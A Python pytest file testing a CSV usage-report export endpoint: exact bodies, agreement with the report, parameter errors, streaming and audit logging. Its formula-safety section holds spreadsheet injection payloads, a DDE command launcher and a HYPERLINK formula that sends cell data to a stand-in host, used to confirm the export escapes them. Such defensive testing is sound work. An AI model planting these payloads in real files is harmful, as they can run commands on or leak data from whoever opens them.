"""``GET /api/v1/reports/user-usage/export``: whole CSV bodies, agreement with the report,
formula safety, parameter errors, and what a failure after the first byte looks like."""

from __future__ import annotations

import asyncio
import csv
import io
import threading
import time
from collections import defaultdict
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timedelta
from typing import Any

import httpx2 as httpx
import pytest
import uvicorn
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import text

from tests.conftest import make_event
from tests.support.postgres import free_port
from tokenledger import export
from tokenledger.auth import audit
from tokenledger.store.database import Database, DatabaseUnavailable
from tokenledger.store.usage_store import UsageStore

PATH = "/api/v1/reports/user-usage/export"
METRICS = (
    "requests",
    "error_requests",
    "input_tokens",
    "output_tokens",
    "total_tokens",
    "cache_read_tokens",
    "cache_write_tokens",
    "reasoning_tokens",
    "usage_missing_requests",
)


@pytest.fixture
def get_export(client: TestClient, read_key: str) -> Callable[..., Any]:
    def get(**params: Any) -> Any:
        return client.get(PATH, params=params, headers={"Authorization": f"Bearer {read_key}"})

    return get


def _records(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def _post(post_events: Callable[..., Any], events: list[dict[str, Any]]) -> None:
    response = post_events(events)
    rejected = [item for item in response.json()["results"] if item["status"] == "rejected"]
    assert response.status_code == 200, rejected


# -- a small known dataset, whole bodies ---------------------------------------------------

ZOE = {
    "id": "u-zoe",
    "name": "Zoë Dubois",
    "email": "zoe@example.com",
    "department": "Engineering",
    "team": "=Platform",  # text a spreadsheet would run: escaped
}
BOB = {"id": "u-bob", "name": 'Bob "The" Builder, Jr.'}
KNOWN = [
    make_event(
        event_id="evt-1",
        user=ZOE,
        started_at="2026-11-24T10:00:00Z",
        duration_ms=1500,
        input_tokens=100,
        output_tokens=40,
        cache_read_tokens=30,
        reasoning_tokens=10,
    ),
    make_event(
        event_id="evt-2",
        user=ZOE,
        started_at="2026-11-25T08:15:30.250Z",
        duration_ms=2250,
        model="claude-sonnet",
        provider="anthropic",
        input_tokens=200,
        output_tokens=60,
        cache_write_tokens=50,
    ),
    make_event(
        event_id="evt-3",
        user=BOB,
        started_at="2026-11-24T20:00:00Z",  # 01:30 on Nov 25 in Kolkata
        duration_ms=0,
        model=None,
        provider=None,
        input_tokens=5,
        output_tokens=0,
        status="error",
    ),
    make_event(event_id="evt-old", user=BOB, started_at="2026-11-20T10:00:00Z"),
]
KNOWN_RANGE = {"start": "2026-11-24", "end": "2026-11-25", "tz": "Asia/Kolkata"}

# evt-1 is gpt-4o (catalogue: $2.50 input, $1.25 cached input, $10 output per million):
# 70 x 2.50 + 30 x 1.25 + 40 x 10 = 612.5 per million = $0.0006125. The catalogue has
# no "claude-sonnet" and evt-3 names no model: both unpriced.
SUMMARY_BODY = (
    "user_id,name,email,requests,error_requests,input_tokens,output_tokens,total_tokens,"
    "cache_read_tokens,cache_write_tokens,reasoning_tokens,usage_seconds,first_request_at,"
    "last_request_at,range_start,range_end,timezone,department,team,usage_missing_requests,"
    "cost_usd,unpriced_requests\r\n"
    "u-zoe,Zoë Dubois,zoe@example.com,2,0,300,100,400,30,50,10,3.750,"
    "2026-11-24T15:30:00+05:30,2026-11-25T13:45:30.250000+05:30,"
    "2026-11-24,2026-11-25,Asia/Kolkata,Engineering,'=Platform,0,0.000612500,1\r\n"
    'u-bob,"Bob ""The"" Builder, Jr.",,1,1,5,0,5,0,0,0,0.000,'
    "2026-11-25T01:30:00+05:30,2026-11-25T01:30:00+05:30,2026-11-24,2026-11-25,Asia/Kolkata,,,"
    "0,0.000000000,1\r\n"
)
DAILY_BODY = (
    "date,user_id,name,email,requests,error_requests,input_tokens,output_tokens,total_tokens,"
    "cache_read_tokens,cache_write_tokens,reasoning_tokens,usage_seconds,first_request_at,"
    "last_request_at,timezone,department,team,usage_missing_requests,cost_usd,"
    "unpriced_requests\r\n"
    "2026-11-24,u-zoe,Zoë Dubois,zoe@example.com,1,0,100,40,140,30,0,10,1.500,"
    "2026-11-24T15:30:00+05:30,2026-11-24T15:30:00+05:30,Asia/Kolkata,Engineering,'=Platform,"
    "0,0.000612500,0\r\n"
    "2026-11-25,u-zoe,Zoë Dubois,zoe@example.com,1,0,200,60,260,0,50,0,2.250,"
    "2026-11-25T13:45:30.250000+05:30,2026-11-25T13:45:30.250000+05:30,Asia/Kolkata,"
    "Engineering,'=Platform,0,0.000000000,1\r\n"
    '2026-11-25,u-bob,"Bob ""The"" Builder, Jr.",,1,1,5,0,5,0,0,0,0.000,'
    "2026-11-25T01:30:00+05:30,2026-11-25T01:30:00+05:30,Asia/Kolkata,,,0,0.000000000,1\r\n"
)
EVENTS_BODY = (
    "event_id,user_id,name,email,started_at,duration_ms,model,provider,status,input_tokens,"
    "output_tokens,total_tokens,cache_read_tokens,cache_write_tokens,reasoning_tokens,"
    "department,team,usage_missing,cost_usd,cost_source\r\n"
    "evt-1,u-zoe,Zoë Dubois,zoe@example.com,2026-11-24T15:30:00+05:30,1500,gpt-4o,openai,ok,"
    "100,40,140,30,0,10,Engineering,'=Platform,0,0.000612500,catalogue\r\n"
    'evt-3,u-bob,"Bob ""The"" Builder, Jr.",,2026-11-25T01:30:00+05:30,0,,,error,5,0,5,0,0,0,,,'
    "0,,unpriced\r\n"
    "evt-2,u-zoe,Zoë Dubois,zoe@example.com,2026-11-25T13:45:30.250000+05:30,2250,"
    "claude-sonnet,anthropic,ok,200,60,260,0,50,0,Engineering,'=Platform,0,,unpriced\r\n"
)
TEAMS_BODY = (
    "team,people_active,people,requests,error_requests,input_tokens,output_tokens,"
    "total_tokens,cache_read_tokens,cache_write_tokens,reasoning_tokens,usage_seconds,"
    "first_request_at,last_request_at,range_start,range_end,timezone,"
    "usage_missing_requests,cost_usd,unpriced_requests\r\n"
    "'=Platform,1,1,2,0,300,100,400,30,50,10,3.750,2026-11-24T15:30:00+05:30,"
    "2026-11-25T13:45:30.250000+05:30,2026-11-24,2026-11-25,Asia/Kolkata,0,0.000612500,1\r\n"
    ",1,1,1,1,5,0,5,0,0,0,0.000,2026-11-25T01:30:00+05:30,2026-11-25T01:30:00+05:30,"
    "2026-11-24,2026-11-25,Asia/Kolkata,0,0.000000000,1\r\n"
)


@pytest.mark.parametrize(
    ("granularity", "body", "filename"),
    [
        ("summary", SUMMARY_BODY, "user-usage_2026-11-24_2026-11-25.csv"),
        ("daily", DAILY_BODY, "user-usage-daily_2026-11-24_2026-11-25.csv"),
        ("events", EVENTS_BODY, "user-usage-events_2026-11-24_2026-11-25.csv"),
        ("teams", TEAMS_BODY, "user-usage-teams_2026-11-24_2026-11-25.csv"),
    ],
)
def test_known_dataset_exact_body_and_headers(
    post_events: Callable[..., Any],
    get_export: Callable[..., Any],
    granularity: str,
    body: str,
    filename: str,
) -> None:
    _post(post_events, KNOWN)
    response = get_export(granularity=granularity, **KNOWN_RANGE)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="{filename}"'
    assert response.headers["cache-control"] == "no-store"
    assert response.content == body.encode("utf-8")


def test_summary_is_the_default_and_bom_is_optional(
    post_events: Callable[..., Any], get_export: Callable[..., Any]
) -> None:
    _post(post_events, KNOWN)
    assert get_export(**KNOWN_RANGE).content == SUMMARY_BODY.encode()
    with_bom = get_export(bom="1", **KNOWN_RANGE).content
    assert with_bom == b"\xef\xbb\xbf" + SUMMARY_BODY.encode()
    assert with_bom.decode("utf-8-sig") == SUMMARY_BODY


def test_search_narrows_rows_and_names_the_file(
    post_events: Callable[..., Any], get_export: Callable[..., Any]
) -> None:
    _post(post_events, KNOWN)
    for granularity in ("summary", "daily", "events"):
        response = get_export(granularity=granularity, q="ZOE", **KNOWN_RANGE)
        assert {row["user_id"] for row in _records(response.content)} == {"u-zoe"}
        assert response.headers["content-disposition"].endswith('_2026-11-25_zoe.csv"')


@pytest.mark.parametrize("granularity", ["summary", "daily", "events"])
def test_empty_range_is_the_header_only(
    post_events: Callable[..., Any], get_export: Callable[..., Any], granularity: str
) -> None:
    _post(post_events, KNOWN)
    body = get_export(granularity=granularity, start="2026-11-01", end="2026-11-19").content
    assert body == ",".join(export.COLUMNS[granularity]).encode() + b"\r\n"


def test_header_only_on_an_empty_database(get_export: Callable[..., Any]) -> None:
    for granularity in ("summary", "daily", "events"):
        assert _records(get_export(granularity=granularity).content) == []


# -- agreement with the report ----------------------------------------------------------

PEOPLE = [
    {"id": "emp-1", "name": "Nguyễn Thị Thảo", "email": "thao@example.com"},
    {"id": "emp-2", "name": "Đặng Văn Lâm"},
    {"id": "emp-3", "name": "Zoë Dubois", "email": "zoe@corp.example"},
    {"id": "emp-4"},
    {"id": "emp-5", "name": "王小明", "email": "xiaoming@example.com"},
]


def _usage_events() -> list[dict[str, Any]]:
    """About 180 events every 47 minutes across the 2024 US autumn DST change."""
    events = []
    start = datetime.fromisoformat("2024-10-30T00:00:00+00:00")
    for index in range(180):
        started_at = start + timedelta(minutes=47 * index, seconds=index % 7)
        event = make_event(
            user=PEOPLE[(index * 7) % 5 if index % 11 else 0],
            started_at=started_at.isoformat(),
            duration_ms=index * 37 % 5000,
            input_tokens=100 + index * 13 % 900,
            output_tokens=index * 7 % 300,
            status="error" if index % 9 == 0 else "ok",
        )
        if index % 3:
            event["cache_read_tokens"] = index % 50
        if index % 4 == 0:
            event["cache_write_tokens"] = index % 20
            event["reasoning_tokens"] = min(index % 30, event["output_tokens"])
        events.append(event)
    return events


def _report_row(row: dict[str, str]) -> dict[str, Any]:
    """A summary CSV row in the report API's shape."""
    seconds = row["usage_seconds"]
    whole, _, millis = seconds.partition(".")
    return {
        "user_id": row["user_id"],
        "name": row["name"] or None,
        "email": row["email"] or None,
        **{metric: int(row[metric]) for metric in METRICS},
        "duration_ms": int(whole) * 1000 + int(millis),
        "first_request_at": row["first_request_at"],
        "last_request_at": row["last_request_at"],
        "cost_usd": row["cost_usd"],  # the same exact decimal string
        "unpriced_requests": int(row["unpriced_requests"]),
    }


FILTERS = [
    {"tz": "America/New_York", "start": "2024-10-31", "end": "2024-11-05"},
    {"tz": "Asia/Kathmandu", "start": "2024-10-30", "end": "2024-11-04", "sort": "name"},
    {"tz": "UTC", "start": "2024-11-01", "end": "2024-11-03", "sort": "-requests", "q": "e"},
    {"tz": "Europe/Paris", "start": "2024-11-02", "end": "2024-11-02", "sort": "first_request_at"},
    {"tz": "Pacific/Chatham", "start": "2024-10-29", "end": "2024-11-07", "sort": "-email"},
]


@pytest.mark.parametrize("filters", FILTERS, ids=lambda f: f["tz"])
def test_exports_agree_with_the_report(
    post_events: Callable[..., Any],
    get_report: Callable[..., Any],
    get_export: Callable[..., Any],
    filters: dict[str, str],
) -> None:
    _post(post_events, _usage_events())
    report = get_report(limit=500, **filters).json()
    assert report["total_users"] >= 1

    # summary: exactly the report's rows, in the report's order
    summary = _records(get_export(**filters).content)
    assert [_report_row(row) for row in summary] == report["users"]

    # daily: per user, the days add up to the summary
    by_user: dict[str, dict[str, Any]] = defaultdict(lambda: defaultdict(int))
    daily = _records(get_export(granularity="daily", **filters).content)
    for row in daily:
        totals = by_user[row["user_id"]]
        for metric in (*METRICS, "duration_ms"):
            totals[metric] += _report_row(row)[metric]
        first, last = (
            datetime.fromisoformat(row[k]) for k in ("first_request_at", "last_request_at")
        )
        totals["first"] = min(totals.get("first") or first, first)
        totals["last"] = max(totals.get("last") or last, last)
    assert all(filters["start"] <= row["date"] <= filters["end"] for row in daily)
    assert len(by_user) == len(summary)
    for row in summary:
        expected = _report_row(row)
        totals = by_user[row["user_id"]]
        assert {m: totals[m] for m in (*METRICS, "duration_ms")} == {
            m: expected[m] for m in (*METRICS, "duration_ms")
        }
        assert totals["first"] == datetime.fromisoformat(expected["first_request_at"])
        assert totals["last"] == datetime.fromisoformat(expected["last_request_at"])

    # events: summed, they are the report's totals
    events = _records(get_export(granularity="events", **filters).content)
    sums = {
        "requests": len(events),
        "error_requests": sum(row["status"] == "error" for row in events),
        **{column: sum(int(row[column]) for row in events) for column in METRICS[2:-1]},
        "usage_missing_requests": sum(int(row["usage_missing"]) for row in events),
        "duration_ms": sum(int(row["duration_ms"]) for row in events),
    }
    assert sums == {metric: report["totals"][metric] for metric in (*METRICS, "duration_ms")}
    instants = [datetime.fromisoformat(row["started_at"]) for row in events]
    assert instants == sorted(instants)
    assert {row["user_id"] for row in events} == {row["user_id"] for row in summary}


def test_unicode_survives_a_round_trip(
    post_events: Callable[..., Any], get_export: Callable[..., Any]
) -> None:
    names = ["Nguyễn Thị Thảo", "Đặng Văn Lâm", "王小明", "Zoë 😀 Dubois", "Ωμέγα"]
    _post(
        post_events,
        [make_event(user={"id": f"ü-{n}", "name": name}) for n, name in enumerate(names)],
    )
    for bom in ("0", "1"):
        body = get_export(sort="user_id", bom=bom).content
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
        assert [row[:2] for row in rows[1:]] == [[f"ü-{n}", name] for n, name in enumerate(names)]


# -- formula safety --------------------------------------------------------------------

VECTORS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "@SUM(1+1)",
    "+1",
    "-1+1",
    "＝1+1",
    "a,=1",
    'a";=1',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _injection_events() -> list[dict[str, Any]]:
    """The vectors in every text field that ingest lets carry them."""
    events = []
    for index, vector in enumerate(VECTORS):
        events.append(
            make_event(
                event_id=vector,
                user={"id": vector, "name": vector, "email": f"{'=-+'[index % 3]}1@example.com"},
                model=vector,
                provider=vector,
                input_tokens=index,
                output_tokens=1,
            )
        )
    return events


def _assert_inert(body: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    header = rows[0]
    for row in rows[1:]:
        assert len(row) == len(header)
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(DANGEROUS), (column, cell)
            if column in (*METRICS, "duration_ms"):
                assert cell.isdigit(), (column, cell)  # counts stay numbers
            if column == "usage_seconds":
                assert cell.replace(".", "", 1).isdigit(), cell
    return rows


def test_formula_vectors_in_stored_fields_become_inert_text(
    post_events: Callable[..., Any], get_export: Callable[..., Any], db: Database
) -> None:
    _post(post_events, _injection_events())
    # Ingest refuses control characters in ids and names; data written another way
    # (an older version, a manual fix) may hold them, so put them in with SQL.
    controls = {"\t=1+1": "u-tab", "\r=1+1": "u-cr", "line one\n=1+1": "u-newline"}
    _post(post_events, [make_event(user={"id": user_id}) for user_id in controls.values()])
    with db.write() as conn:
        for name, user_id in controls.items():
            conn.execute(
                text("UPDATE users SET name = :name, email = :name WHERE external_id = :id"),
                {"name": name, "id": user_id},
            )
            conn.execute(
                text(
                    "UPDATE events SET model = :name WHERE user_pk = "
                    "(SELECT id FROM users WHERE external_id = :id)"
                ),
                {"name": name, "id": user_id},
            )
    found: set[str] = set()
    for granularity in ("summary", "daily", "events"):
        rows = _assert_inert(get_export(granularity=granularity).content)
        found.update(cell for row in rows for cell in row)
    for vector in VECTORS:
        expected = "'" + vector if vector.startswith(DANGEROUS) else vector
        assert expected in found
    assert {"'\t=1+1", "'\r=1+1", "line one\n=1+1", "'=1@example.com", "'+1@example.com"} <= found


# -- parameters and access ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"granularity": "hourly"}, "granularity"),
        ({"sort": "-bogus"}, "sort"),
        ({"tz": "Mars/Olympus"}, "tz"),
        ({"start": "2024-13-01"}, "start"),
        ({"start": "2024-02-02", "end": "2024-02-01"}, "end"),
        ({"bom": "maybe"}, "bom"),
        ({"q": "x" * 201}, "q"),
    ],
)
def test_bad_parameters_get_a_json_400_naming_them(
    get_export: Callable[..., Any], params: dict[str, str], field: str
) -> None:
    response = get_export(**params)
    assert response.status_code == 400
    assert response.headers["content-type"] == "application/json"
    error = response.json()["error"]
    assert (error["code"], error["field"]) == ("invalid_parameter", field)
    assert field in error["message"]


def test_needs_a_report_key(client: TestClient, ingest_key: str) -> None:
    assert client.get(PATH).status_code == 401
    response = client.get(PATH, headers={"Authorization": f"Bearer {ingest_key}"})
    assert response.status_code == 403


def test_export_is_in_the_openapi_document(client: TestClient) -> None:
    operation = client.get("/api/openapi.json").json()["paths"][PATH]["get"]
    assert "text/csv" in operation["responses"]["200"]["content"]
    names = {parameter["name"] for parameter in operation["parameters"]}
    assert names >= {"start", "end", "tz", "q", "sort", "granularity", "bom"}


# -- streaming ------------------------------------------------------------------------------


def test_many_pages_stream_through_the_endpoint(
    client: TestClient, read_key: str, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tokenledger.ingest import ingest

    events = [
        make_event(
            event_id=f"e{n:05d}",
            user={"id": f"u{n % 13}"},
            started_at=f"2026-11-2{n % 5}T{n % 24:02d}:{n % 60:02d}:00Z",
        )
        for n in range(5000)
    ]
    for first in range(0, len(events), 1000):
        ingest(UsageStore(db), events[first : first + 1000], now_us=2**62)
    monkeypatch.setattr(export, "EVENT_PAGE_SIZE", 300)
    params = {"granularity": "events", "start": "2026-11-20", "end": "2026-11-24"}
    headers = {"Authorization": f"Bearer {read_key}"}
    with client.stream("GET", PATH, params=params, headers=headers) as response:
        assert response.status_code == 200
        chunks = list(response.iter_raw())
    assert chunks[0] == ",".join(export.EVENT_COLUMNS).encode() + b"\r\n"
    rows = _records(b"".join(chunks))
    assert len(rows) == 5000
    assert sorted(row["event_id"] for row in rows) == sorted(e["event_id"] for e in events)


def _asgi_get(app: FastAPI, path: str, query: str, key: str) -> tuple[list[dict[str, Any]], Any]:
    """Run one GET through the ASGI app; the messages sent and the exception raised."""
    sent: list[dict[str, Any]] = []
    requested = False

    async def receive() -> dict[str, Any]:
        # As a server does: the request once, then nothing until the client goes away
        # (never, here: the app's task ends first).
        nonlocal requested
        if requested:
            await asyncio.Event().wait()
        requested = True
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": query.encode(),
        "headers": [(b"authorization", f"Bearer {key}".encode()), (b"host", b"test")],
        "client": ("127.0.0.1", 1),
        "server": ("test", 80),
    }
    try:
        # A thread of its own: the calling thread may already run an event loop (the
        # browser tests' Playwright does, in the same test process).
        with ThreadPoolExecutor(1) as pool:
            pool.submit(asyncio.run, app(scope, receive, send)).result()
    except Exception as exc:
        return sent, exc
    return sent, None


def test_a_failure_after_the_first_byte_breaks_the_download(
    app: FastAPI, read_key: str, post_events: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    _post(post_events, [make_event(started_at=f"2026-11-25T0{n}:00:00Z") for n in range(6)])
    store = app.state.ctx.store
    real_page = store.event_lines
    calls = 0

    def failing_page(**kwargs: Any) -> Any:
        nonlocal calls
        calls += 1
        if calls == 2:
            raise DatabaseUnavailable("disk I/O error")
        return real_page(**kwargs)

    monkeypatch.setattr(store, "event_lines", failing_page)
    monkeypatch.setattr(export, "CHUNK_CHARS", 1)  # every row is its own chunk
    monkeypatch.setattr(export, "EVENT_PAGE_SIZE", 2)
    sent, raised = _asgi_get(app, PATH, "granularity=events", read_key)
    assert raised is not None  # the server closes the connection without the last chunk
    assert isinstance(raised.__cause__ or raised, DatabaseUnavailable)
    assert sent[0]["type"] == "http.response.start"
    assert sent[0]["status"] == 200
    bodies = [message for message in sent[1:] if message["type"] == "http.response.body"]
    assert all(message["more_body"] for message in bodies)  # never "complete"
    body = b"".join(message["body"] for message in bodies)
    assert len(_records(body)) == 2  # the first page, then nothing
    assert b"error" not in body.lower()
    assert b"disk" not in body.lower()


def test_every_export_is_audited_when_it_starts_and_when_it_ends(
    app: FastAPI,
    db: Database,
    read_key: str,
    post_events: Callable[..., Any],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    _post(post_events, [make_event(started_at=f"2026-11-25T0{n}:00:00Z") for n in range(6)])
    filters = {
        "start": "2026-11-25",
        "end": "2026-11-25",
        "timezone": "UTC",
        "q": "",
        "sort": "-total_tokens",
        "granularity": "events",
    }
    sent, raised = _asgi_get(app, PATH, "granularity=events", read_key)
    assert raised is None
    assert len(_records(b"".join(m.get("body", b"") for m in sent[1:]))) == 6
    (started,) = audit.entries(db, action=audit.EXPORT_STARTED)
    (ended,) = audit.entries(db, action=audit.EXPORT)
    assert started.details == {"filters": filters}
    assert ended.details == {"filters": filters, "rows": 6, "complete": True}
    assert started.id < ended.id
    assert started.actor == ended.actor == "key " + read_key[:11] + "… (tests reader)"

    # Aborted after the first page by a failure: the outcome says so, with the rows sent.
    store = app.state.ctx.store
    real_page = store.event_lines

    def failing_page(**kwargs: Any) -> Any:
        if kwargs["after"][1] > 0:
            raise DatabaseUnavailable("disk I/O error")
        return real_page(**kwargs)

    monkeypatch.setattr(store, "event_lines", failing_page)
    monkeypatch.setattr(export, "EVENT_PAGE_SIZE", 2)
    monkeypatch.setattr(export, "CHUNK_CHARS", 1)
    _, raised = _asgi_get(app, PATH, "granularity=events", read_key)
    assert raised is not None
    assert len(audit.entries(db, action=audit.EXPORT_STARTED)) == 2
    latest = audit.entries(db, action=audit.EXPORT)[0]
    assert latest.details == {"filters": filters, "rows": 2, "complete": False}

    # Refused parameters start nothing.
    headers = {"Authorization": f"Bearer {read_key}"}
    with TestClient(app) as client:
        assert client.get(PATH, params={"q": "a\x00"}, headers=headers).status_code == 400
    assert len(audit.entries(db, action=audit.EXPORT_STARTED)) == 2


def _download(url: str, key: str) -> tuple[bytes, Exception | None]:
    """What an HTTP client receives, and how the transfer ended."""
    received = b""
    try:
        with httpx.stream("GET", url, headers={"Authorization": f"Bearer {key}"}) as response:
            assert response.status_code == 200
            for chunk in response.iter_raw():
                received += chunk
    except httpx.TransportError as exc:
        return received, exc
    return received, None


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_over_a_real_socket_the_client_sees_a_broken_download(
    app: FastAPI, read_key: str, post_events: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    _post(post_events, [make_event(started_at=f"2026-11-25T0{n}:00:00Z") for n in range(6)])
    monkeypatch.setattr(export, "CHUNK_CHARS", 1)
    monkeypatch.setattr(export, "EVENT_PAGE_SIZE", 2)
    store = app.state.ctx.store
    real_page = store.event_lines

    def failing_page(**kwargs: Any) -> Any:
        if kwargs["after"][1] > 0:  # any page but the first
            raise DatabaseUnavailable("disk I/O error")
        return real_page(**kwargs)

    monkeypatch.setattr(store, "event_lines", failing_page)
    server = uvicorn.Server(
        uvicorn.Config(app, host="127.0.0.1", port=free_port(), log_level="critical")
    )
    thread = threading.Thread(target=server.run)
    thread.start()
    try:
        while not server.started:
            time.sleep(0.01)
        url = f"http://127.0.0.1:{server.config.port}{PATH}?granularity=events"
        received, error = _download(url, read_key)
    finally:
        server.should_exit = True
        thread.join(timeout=10)
    assert isinstance(error, httpx.RemoteProtocolError)
    assert "incomplete chunked read" in str(error)
    assert len(_records(received)) == 2  # the first page, and no error text after it
    assert b"error" not in received.lower()
